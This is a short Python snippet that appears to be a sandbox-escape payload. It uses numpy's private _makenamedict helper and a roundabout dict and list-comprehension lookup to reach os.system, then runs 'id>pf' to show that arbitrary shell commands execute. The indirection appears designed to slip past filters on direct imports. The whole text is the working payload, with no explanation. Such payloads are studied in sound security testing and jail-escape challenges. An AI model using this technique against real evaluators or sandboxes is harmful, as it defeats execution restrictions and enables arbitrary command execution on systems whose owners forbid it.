import numpy.lib.utils as u
d, names = {'a': u}.get('a')._makenamedict('os')
[x for x in [d, *names] if 'os' in x][0]['os']['system']('id>pf')
